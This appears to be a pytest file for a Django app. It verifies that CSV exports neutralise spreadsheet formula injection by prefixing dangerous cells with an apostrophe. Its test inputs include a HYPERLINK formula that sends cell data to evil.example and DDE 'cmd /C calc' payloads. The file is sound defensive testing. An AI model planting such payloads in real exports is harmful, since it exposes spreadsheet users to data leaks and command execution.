"""A downloaded table has no formulas for spreadsheets; files for programs keep every byte."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from base.csv_output import cell, csv_lines
from tests import factories


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
    ],
)
def test_a_cell_with_a_formula_is_marked_as_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "D1", "-1", "+2", "-0.5", "a=b", "1-2", "e@example.org"])
def test_any_other_cell_is_unchanged(text):
    assert cell(text) == text


def test_separators_and_line_breaks_stay_within_their_cell():
    rows = [["a,b", 'c"d', "e\nf"], ["=1,2", "x", "y"]]

    read = list(csv.reader(io.StringIO("".join(csv_lines(rows)))))

    assert read == [["a,b", 'c"d', "e\nf"], ["'=1,2", "x", "y"]]


def test_the_unit_table_has_no_formulas(db):
    project = factories.project("tides")
    carla = factories.lead(project)
    ada = factories.member(project, "ada")
    type(ada).objects.filter(pk=ada.pk).update(name="=ada")
    query = factories.query(project, "=cmd|'/C")
    pair = factories.pair(query, pair_id="@SUM(1)", category="+C1")
    candidate = factories.candidate(query, "-D1")
    factories.judgment(factories.altered(pair), candidate, ada, 1)
    client = Client()
    assert carla.user
    client.force_login(carla.user)

    answer = client.get("/projects/tides/agreement/units.csv")

    head, row = csv.reader(io.StringIO(b"".join(answer).decode()))
    assert head[-1] == "'=ada"
    assert row == ["'=cmd|'/C", "'-D1", "'@SUM(1)", "'+C1", "altered", "1", "1"]
